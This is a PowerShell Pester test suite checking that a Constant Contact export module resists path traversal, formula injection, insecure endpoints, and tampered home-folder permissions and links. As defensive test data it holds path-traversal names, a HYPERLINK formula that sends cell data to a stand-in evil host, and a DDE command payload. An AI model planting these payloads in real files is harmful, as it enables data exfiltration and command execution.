# Issue #7, security, what the other suites do not already show: names that would escape their folder, connection
# files edited to plain http, the reject report against formula injection end to end, and the modes of every
# folder that holds secrets or personal data. No token in any stream, file or error record, and no address in
# Verbose or Debug output: Faults.Tests.ps1 (runs under faults with 5-second tokens) and Connections.Tests.ps1
# (every connection command). Plain http refused at New-CCConnection: Connections.Tests.ps1.

BeforeAll {
    Import-Module (Join-Path $PSScriptRoot 'TestHelpers.psm1') -Force
    Import-Module (Get-TestModulePath) -Force
    # The home one level down, so that a name escaping it would land in a folder the test can watch.
    $script:Outer = Join-Path ([System.IO.Path]::GetTempPath()) "cce-security-$([guid]::NewGuid().ToString('N').Substring(0, 10))"
    New-Item -ItemType Directory -Path $Outer | Out-Null
    $script:TestHome = Join-Path $Outer 'home'
    New-Item -ItemType Directory -Path $TestHome | Out-Null
    $env:CC_EXPORT_HOME = $TestHome
    $script:Sandbox = Start-TestSandbox -Arguments @('--activity-delay', '20')
    $null = New-CCConnection -Name sandbox -ClientId $Sandbox.ClientId -ApiBaseUri $Sandbox.ApiBaseUri -AuthBaseUri $Sandbox.AuthBaseUri -AcceptDataPrivacyNotice 6>$null
    $script:Export = Set-CCExport -Name secure -Connection sandbox -ListName Secure -CreateList -EmailField Email -FirstNameField FirstName -Segment Newsletter -SegmentField Segments -MaxRejectPercent 100 -PassThru
}

AfterAll {
    Stop-TestSandbox $script:Sandbox
    Remove-Module ConstantContactExport -ErrorAction SilentlyContinue
    Remove-Item $script:Outer -Recurse -Force -ErrorAction SilentlyContinue
}

Describe 'Names that would escape their folder' {
    BeforeAll {
        $script:Unsafe = @('../x', '..\x', '../../outside', '/etc/passwd', '/tmp/x', 'C:\x', 'C:x', 'a/b', 'a\b', '..', '.', '.hidden', 'x.', ' x', 'x ',
            "a`0b", "a`nb", 'con', 'NUL.json', 'com1', 'x:y', 'a|b', 'a?b', 'a"b', 'a<b', ('a' * 65),
            # Invisible and formatting characters: each looks like another name ('x', 'xexe.png', 'a b').
            "x`u{200B}", "x`u{202E}gnp.exe", "`u{FEFF}x", "se`u{00AD}cure", "a`u{00A0}b", "x`u{2066}")
    }

    It 'refuses every one in Set-CCExport, Invoke-CCExport, Remove-CCExport and Get-CCExportRun, and writes nothing outside the home' {
        $before = @(Get-ChildItem $Outer -Recurse -Force | ForEach-Object FullName)
        foreach ($name in $Unsafe) {
            { Set-CCExport -Name $name -Connection sandbox -ListId $Export.ListIds[0] -EmailField Email -Segment s } | Should -Throw -ErrorId 'ExportNameInvalid,*' -Because "'$name'"
            { Invoke-CCExport -Name $name -Resume } | Should -Throw -ErrorId 'ExportNameInvalid,*' -Because "'$name'"
            { @{ Email = 'a@example.com'; Segments = 'Newsletter' } | Invoke-CCExport -Name $name } | Should -Throw -ErrorId 'ExportNameInvalid,*' -Because "'$name'"
            Remove-CCExport -Name $name -Confirm:$false -ErrorAction SilentlyContinue -ErrorVariable removeErrors
            $removeErrors.Count | Should -BeGreaterThan 0 -Because "'$name'"
            { Get-CCExportRun -RunId $name -ErrorAction Stop } | Should -Throw -Because "'$name'"
            if (-not [WildcardPattern]::ContainsWildcardCharacters($name)) {
                # The same error as every other command, not an empty answer.
                { Get-CCExportRun -Name $name -ErrorAction Stop } | Should -Throw -ErrorId 'ExportNameInvalid,*' -Because "'$name'"
                { Get-CCExport -Name $name -ErrorAction Stop } | Should -Throw -ErrorId 'ExportNameInvalid,*' -Because "'$name'"
            }
        }
        { Get-CCExportRun -Name '../secrets/x' -ErrorAction Stop } | Should -Throw -ErrorId 'ExportNameInvalid,*'
        { Get-CCExportRun -Name '../secrets/*' -ErrorAction Stop } | Should -Throw -ErrorId 'ExportNameInvalid,*'
        @(Get-CCExportRun -Name 'sec*') | Should -BeNullOrEmpty
        { Get-CCExportRun -RunId '../../home/connections/sandbox' -ErrorAction Stop } | Should -Throw
        # Nothing new anywhere under the folder around the home, inside it only the usual folders.
        $after = @(Get-ChildItem $Outer -Recurse -Force | ForEach-Object FullName)
        @($after | Where-Object { $_ -notin $before }) | Should -BeNullOrEmpty
        (Get-ChildItem (Join-Path $TestHome 'exports')).Name | Should -Be @('secure.json')
    }

    It 'refuses the same names for connections' {
        foreach ($name in $Unsafe) {
            { New-CCConnection -Name $name -ClientId x -AcceptDataPrivacyNotice } | Should -Throw -ErrorId 'InvalidConnectionName,*' -Because "'$name'"
            if (-not [WildcardPattern]::ContainsWildcardCharacters($name)) {
                { Get-CCConnection -Name $name -ErrorAction Stop } | Should -Throw -ErrorId 'InvalidConnectionName,*' -Because "'$name'"
            }
        }
        (Get-ChildItem (Join-Path $TestHome 'connections')).Name | Should -Be @('sandbox.json')
    }
}

Describe 'A connection file edited to plain http off loopback' {
    It 'is refused when used (InsecureEndpoint), before any request, and Get-CCConnection skips it with a warning' {
        $path = Join-Path $TestHome 'connections/edited.json'
        $json = (Get-Content (Join-Path $TestHome 'connections/sandbox.json') -Raw) -replace '"Name": "sandbox"', '"Name": "edited"' -replace '"ApiBaseUri": "[^"]*"', '"ApiBaseUri": "http://api.cc.example.net/v3"'
        Set-Content -Path $path -Value $json
        Copy-Item (Join-Path $TestHome 'secrets/sandbox.token') (Join-Path $TestHome 'secrets/edited.token')
        try {
            { Test-CCConnection -Connection edited -ErrorAction Stop } | Should -Throw -ErrorId 'InsecureEndpoint,*'
            { Set-CCExport -Name via-edited -Connection edited -ListName x -EmailField Email -Segment s } | Should -Throw -ErrorId 'InsecureEndpoint,*'
            $connections = Get-CCConnection -WarningVariable warnings -WarningAction SilentlyContinue
            $connections.Name | Should -Not -Contain 'edited'
            "$warnings" | Should -Match 'edited\.json'
        }
        finally {
            Remove-Item $path, (Join-Path $TestHome 'secrets/edited.token')
        }
    }
}

Describe 'The reject report' {
    It 'holds no cell a spreadsheet would run, whatever the profiles and the file name hold' -Skip:$IsWindows {
        $payloads = @('=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+2', '-2+3', '@SUM(A1:A9)', "`t=1+1", '=cmd|'' /C calc''!A0', '"=1+1"',
            # Full-width forms, the minus sign, and formula starts behind a BOM, a zero-width space or a bidirectional control.
            "`u{FF1D}HYPERLINK(""http://evil.example"")", "`u{FF0B}1+2", "`u{FF0D}2+3", "`u{FF20}SUM(A1)", "`u{2212}2+3",
            "`u{FEFF}=1+1", "`u{200B}+1+2", "`u{202E}`u{200B} @SUM(A1)", "`u{FEFF}`u{FF1D}1")
        $lines = @('Email,FirstName,Segments') + ($payloads | ForEach-Object { '"' + $_.Replace('"', '""') + '",Ada,Newsletter' }) + @('ok@example.com,"=1+2",Newsletter', ('long@example.com,' + ('=' * 60) + ',Newsletter'))
        # A file name from a drop folder can hold a line break and a formula of its own.
        $csv = Join-Path $TestHome "drop`n=SUM(A1)-1.csv"
        Set-Content -LiteralPath $csv -Value $lines
        $run = Invoke-CCExport -Name secure -LiteralPath $csv -ErrorPerReject -ErrorAction SilentlyContinue -ErrorVariable rejected
        $run.InvalidCount | Should -Be ($payloads.Count + 1) -Because (($rejected | ForEach-Object { "$($_.FullyQualifiedErrorId): $_" }) -join "`n")
        $rows = @(Import-Csv $run.RejectPath)
        $rows.Count | Should -Be $run.InvalidCount
        foreach ($row in $rows) {
            foreach ($cell in $row.PSObject.Properties.Value) {
                "$cell" | Should -Not -Match '^[\p{Cf} ]*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20\u2212]' -Because "'$cell' would run as a formula"
            }
        }
        # Read as a spreadsheet reads it, line by line outside quotes: no line starts a formula either.
        $text = Get-Content -LiteralPath $run.RejectPath -Raw
        $text | Should -Not -Match '(^|\r\n)[=+\-@]'
    }
}

Describe 'Folders that hold secrets or personal data' {
    It 'are the owner''s alone after a run: secrets and runs 0700, token 0600, locks 0700' -Skip:$IsWindows {
        $run = @{ Email = 'mode@example.com'; FirstName = 'Mo'; Segments = 'Newsletter' } | Invoke-CCExport -Name secure
        $run.State | Should -Be 'Completed'
        $owner = [System.IO.UnixFileMode]'UserRead, UserWrite, UserExecute'
        foreach ($folder in 'secrets', 'runs', 'locks', "runs/$($run.RunId)") {
            (Get-Item (Join-Path $TestHome $folder)).UnixFileMode | Should -Be $owner -Because $folder
        }
        (Get-Item (Join-Path $TestHome 'secrets/sandbox.token')).UnixFileMode | Should -Be ([System.IO.UnixFileMode]'UserRead, UserWrite')
        # Definitions, connections and journals hold no token.
        $tokens = @((Get-SandboxState $Sandbox).issued_tokens)
        foreach ($file in Get-ChildItem $TestHome -Recurse -File -Include '*.json', '*.jsonl') {
            $content = [System.IO.File]::ReadAllText($file.FullName)
            @($tokens | Where-Object { $content.Contains($_) }).Count | Should -Be 0 -Because $file.FullName
        }
    }
}

# Issue #15, a hostile neighbour: another local user pre-created the home world-writable and swapped the connection
# file for one naming their own loopback listener. The home is checked as ssh's StrictModes checks ~/.ssh, links
# planted in it are never followed, and tokens go only to the endpoints they were issued for.
Describe 'A hostile neighbour' {
    BeforeAll {
        function New-NeighbourHome {
            # A home of its own with a connection and an export, made by this user; the test then spoils it.
            param([Parameter(Mandatory)] [string] $Name)
            $path = Join-Path $Outer $Name
            New-Item -ItemType Directory -Path $path | Out-Null
            $env:CC_EXPORT_HOME = $path
            $null = New-CCConnection -Name n -ClientId $Sandbox.ClientId -ApiBaseUri $Sandbox.ApiBaseUri -AuthBaseUri $Sandbox.AuthBaseUri -AcceptDataPrivacyNotice 6>$null
            $null = Set-CCExport -Name news -Connection n -ListId $Export.ListIds[0] -EmailField Email -Segment Newsletter -SegmentField Segments
            $path
        }

        function Get-Snapshot {
            # What the sandbox was asked, and every entry of a folder with its mode: nothing may change while a command is refused.
            param([string] $Folder)
            $state = Get-SandboxState $Sandbox
            [pscustomobject]@{
                Requests = $state.requests_total
                Entries  = @(Get-ChildItem $Folder -Recurse -Force -ErrorAction SilentlyContinue | ForEach-Object { '{0} {1}' -f $_.FullName, $_.UnixFileMode }) -join "`n"
            }
        }

        $script:Profile = @{ Email = 'neighbour@example.com'; FirstName = 'Ned'; Segments = 'Newsletter' }
    }

    AfterEach {
        $env:CC_EXPORT_HOME = $TestHome
    }

    It 'refuses a home or a connection file others may write (HomeWritableByOthers), before it reads, writes or sends anything' -Skip:$IsWindows {
        $h = New-NeighbourHome 'writable'
        [System.IO.File]::SetUnixFileMode($h, [System.IO.UnixFileMode]0x1FF)
        $before = Get-Snapshot $h
        { $Profile | Invoke-CCExport -Name news } | Should -Throw -ErrorId 'HomeWritableByOthers,*' -ExpectedMessage "*chmod go-w '$h'*"
        { Get-CCConnection } | Should -Throw -ErrorId 'HomeWritableByOthers,*'
        { Test-CCConnection -Connection n -ErrorAction Stop } | Should -Throw -ErrorId 'HomeWritableByOthers,*'
        { New-CCConnection -Name other -ClientId $Sandbox.ClientId -ApiBaseUri $Sandbox.ApiBaseUri -AuthBaseUri $Sandbox.AuthBaseUri -AcceptDataPrivacyNotice } | Should -Throw -ErrorId 'HomeWritableByOthers,*'
        $after = Get-Snapshot $h
        $after.Requests | Should -Be $before.Requests
        $after.Entries | Should -Be $before.Entries

        # The same for one file in it; once the mode is put right, the export runs.
        [System.IO.File]::SetUnixFileMode($h, [System.IO.UnixFileMode]'UserRead, UserWrite, UserExecute')
        $file = Join-Path $h 'connections/n.json'
        [System.IO.File]::SetUnixFileMode($file, [System.IO.UnixFileMode]'UserRead, UserWrite, GroupRead, GroupWrite')
        { $Profile | Invoke-CCExport -Name news } | Should -Throw -ErrorId 'HomeWritableByOthers,*' -ExpectedMessage "*chmod go-w '$file'*"
        (Get-SandboxState $Sandbox).requests_total | Should -Be $before.Requests
        chmod go-w $file
        ($Profile | Invoke-CCExport -Name news).State | Should -Be 'Completed'
    }

    It 'refuses a token file others may read (HomeSecretsReadableByOthers), and a home that is another user''s link' -Skip:$IsWindows {
        $h = New-NeighbourHome 'readable'
        $token = Join-Path $h 'secrets/n.token'
        [System.IO.File]::SetUnixFileMode($token, [System.IO.UnixFileMode]'UserRead, UserWrite, OtherRead')
        $before = Get-Snapshot $h
        { Get-CCList -Connection n -ErrorAction Stop } | Should -Throw -ErrorId 'HomeSecretsReadableByOthers,*' -ExpectedMessage "*chmod -R go-rwx '$token'*New-CCConnection -Force*"
        { $Profile | Invoke-CCExport -Name news } | Should -Throw -ErrorId 'HomeSecretsReadableByOthers,*'
        $after = Get-Snapshot $h
        $after.Requests | Should -Be $before.Requests
        $after.Entries | Should -Be $before.Entries
        chmod go-rwx $token
        ($Profile | Invoke-CCExport -Name news).State | Should -Be 'Completed'

        if ((id -u) -eq '0') {
            # The home named through a link that uid 4242 owns (and could point anywhere): refused, though the folder is ours.
            $link = Join-Path $Outer 'readable-link'
            New-Item -ItemType SymbolicLink -Path $link -Target $h | Out-Null
            chown -h 4242 $link
            $env:CC_EXPORT_HOME = $link
            $requests = (Get-SandboxState $Sandbox).requests_total
            { $Profile | Invoke-CCExport -Name news } | Should -Throw -ErrorId 'HomeOwnedByOtherUser,*' -ExpectedMessage '*symbolic link that belongs to user id 4242*'
            (Get-SandboxState $Sandbox).requests_total | Should -Be $requests
        }
    }

    It 'refuses a home, or a file in it, that another user owns (HomeOwnedByOtherUser)' -Skip:($IsWindows -or (id -u) -ne '0') {
        # The tests run as root, which may give a file away: uid 4242 plays the neighbour.
        $h = New-NeighbourHome 'foreign'
        $before = Get-Snapshot $h
        chown 4242 $h
        { $Profile | Invoke-CCExport -Name news } | Should -Throw -ErrorId 'HomeOwnedByOtherUser,*' -ExpectedMessage '*user id 4242*'
        chown 0 $h
        foreach ($relative in 'connections/n.json', 'secrets/n.token', 'exports', 'locks') {
            $path = Join-Path $h $relative
            chown 4242 $path
            { $Profile | Invoke-CCExport -Name news } | Should -Throw -ErrorId 'HomeOwnedByOtherUser,*' -ExpectedMessage "*'$path' belongs to user id 4242*" -Because $relative
            chown 0 $path
        }
        $after = Get-Snapshot $h
        $after.Requests | Should -Be $before.Requests
        $after.Entries | Should -Be $before.Entries
    }

    It 'refuses a secrets/ or runs/ link planted in the home (HomeSymbolicLink) and leaves its target as it was' -Skip:$IsWindows {
        $target = Join-Path $Outer 'their-folder'
        New-Item -ItemType Directory -Path $target | Out-Null
        Set-Content -Path (Join-Path $target 'keep.txt') -Value 'theirs'
        chmod 0755 $target
        chmod 0644 (Join-Path $target 'keep.txt')
        $theirs = Get-Snapshot $target
        $requests = 0

        # secrets/ planted before the first connection: the device flow is not even started.
        $h = Join-Path $Outer 'planted-secrets'
        New-Item -ItemType Directory -Path $h | Out-Null
        $env:CC_EXPORT_HOME = $h
        New-Item -ItemType SymbolicLink -Path (Join-Path $h 'secrets') -Target $target | Out-Null
        $before = (Get-SandboxState $Sandbox).requests_total
        { New-CCConnection -Name n -ClientId $Sandbox.ClientId -ApiBaseUri $Sandbox.ApiBaseUri -AuthBaseUri $Sandbox.AuthBaseUri -AcceptDataPrivacyNotice } |
            Should -Throw -ErrorId 'HomeSymbolicLink,*' -ExpectedMessage "*rm '$h/secrets'*"
        $requests += (Get-SandboxState $Sandbox).requests_total - $before

        # runs/ planted in a home in use: no run is staged through it.
        $h = New-NeighbourHome 'planted-runs'
        Remove-Item (Join-Path $h 'runs') -Recurse -Force -ErrorAction SilentlyContinue
        New-Item -ItemType SymbolicLink -Path (Join-Path $h 'runs') -Target $target | Out-Null
        $before = (Get-SandboxState $Sandbox).requests_total
        { $Profile | Invoke-CCExport -Name news } | Should -Throw -ErrorId 'HomeSymbolicLink,*' -ExpectedMessage "*rm '$h/runs'*"
        { Get-CCExportRun -Name news } | Should -Throw -ErrorId 'HomeSymbolicLink,*'

        # A link to a file inside a folder of the home is refused the same way.
        Remove-Item (Join-Path $h 'runs')
        New-Item -ItemType SymbolicLink -Path (Join-Path $h 'secrets/n.token') -Target (Join-Path $target 'keep.txt') -Force | Out-Null
        { Test-CCConnection -Connection n -ErrorAction Stop } | Should -Throw -ErrorId 'HomeSymbolicLink,*'
        $requests += (Get-SandboxState $Sandbox).requests_total - $before

        $requests | Should -Be 0
        (Get-Snapshot $target).Entries | Should -Be $theirs.Entries
        Get-Content (Join-Path $target 'keep.txt') | Should -Be 'theirs'
    }

    It 'refuses a connection file edited to send the token to a loopback listener (TokenEndpointMismatch), and the listener gets no request' {
        $h = New-NeighbourHome 'edited'
        $listener = [System.Net.Sockets.TcpListener]::new([System.Net.IPAddress]::Loopback, 0)
        $listener.Start()
        try {
            $port = $listener.LocalEndpoint.Port
            $file = Join-Path $h 'connections/n.json'
            $original = Get-Content $file -Raw
            $before = Get-Snapshot (Join-Path $h 'runs')

            Set-Content $file -NoNewline -Value ($original -replace '"ApiBaseUri": "[^"]*"', "`"ApiBaseUri`": `"http://127.0.0.1:$port/v3`"")
            { $Profile | Invoke-CCExport -Name news } | Should -Throw -ErrorId 'TokenEndpointMismatch,*' -ExpectedMessage "*http://127.0.0.1:$port/v3*"
            { Test-CCConnection -Connection n -ErrorAction Stop } | Should -Throw -ErrorId 'TokenEndpointMismatch,*'
            { Get-CCList -Connection n } | Should -Throw -ErrorId 'TokenEndpointMismatch,*'

            # The token endpoint redirected: the refresh token would go there.
            Set-Content $file -NoNewline -Value ($original -replace '"AuthBaseUri": "[^"]*"', "`"AuthBaseUri`": `"http://127.0.0.1:$port/oauth2/default/v1`"")
            { $Profile | Invoke-CCExport -Name news } | Should -Throw -ErrorId 'TokenEndpointMismatch,*'

            # A connection kept open would be waiting in the backlog: nothing ever connected.
            $listener.Pending() | Should -BeFalse
            $after = Get-Snapshot (Join-Path $h 'runs')
            $after.Requests | Should -Be $before.Requests
            $after.Entries | Should -Be $before.Entries

            # The file put back, the connection works again.
            Set-Content $file -NoNewline -Value $original
            (Test-CCConnection -Connection n).Reachable | Should -BeTrue
        }
        finally {
            $listener.Stop()
        }
    }
}
